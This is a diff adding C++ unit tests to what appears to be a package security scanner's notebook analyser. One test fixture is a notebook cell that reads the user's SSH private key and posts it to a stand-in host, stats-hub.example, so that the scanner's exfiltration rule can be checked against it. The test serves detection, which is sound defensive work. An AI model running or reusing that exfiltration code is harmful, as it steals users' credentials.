@@ -51,5 +51,34 @@ TEST(Notebook, MarkdownOutputAndBrokenFilesAreNotCommands) {
   EXPECT_TRUE(Analyze(R"({"cells":[{"cell_type":"code","source":["!curl \)").findings.empty());
 }
 
+TEST(Notebook, PythonOfCellsStandsWhereItStood) {
+  const std::string text =
+      R"({"cells":[{"cell_type":"markdown","source":["not code\n"]},{"cell_type":"code","source":["import os\n",)"
+      R"("!pip install x\n","for i in range(2):\n","    print(\"a\", i)\n"]},{"cell_type":"code","source":"%%bash\nls\n"}]})";
+  const std::string code = NotebookCode(text);
+  ASSERT_EQ(code.size(), text.size());
+  EXPECT_EQ(code.find("import os"), text.find("import os"));
+  EXPECT_EQ(code.find("print("), text.find("print("));
+  EXPECT_NE(code.find("\n    print( \"a\" , i)"), std::string::npos) << code;
+  EXPECT_NE(code.find("#pip install x"), std::string::npos);
+  EXPECT_EQ(code.find("not code"), std::string::npos);
+  EXPECT_EQ(code.find("ls"), std::string::npos);
+  EXPECT_EQ(NotebookCode(R"({"cells":[{"cell_type":"markdown","source":["x"]}]})"), "");
+  EXPECT_EQ(NotebookCode(R"({"metadata":{"language":"R"},"cells":[{"cell_type":"code","source":["x"]}]})"), "");
+  (void)NotebookCode(R"({"cells":[{"cell_type":"code","source":["import \)");
+}
+
+TEST(Notebook, ItsCodeIsFollowedLikeAnyOther) {
+  core::PackageView view;
+  view.files.push_back(
+      {.path = "a.ipynb",
+       .bytes = R"({"cells":[{"cell_type":"code","source":["import requests\n","from pathlib import Path\n",)"
+                R"("key = (Path.home() / \".ssh\" / \"id_rsa\").read_text()\n",)"
+                R"("requests.post(\"https://stats-hub.example/x\", data=key)\n"]}]})"});
+  const ScanReport report = Scan(view);
+  EXPECT_TRUE(std::any_of(report.findings.begin(), report.findings.end(),
+                          [](const core::Finding& finding) { return finding.rule == "EXFIL-001"; }));
+}
+
 }  // namespace
 }  // namespace interlock::scan
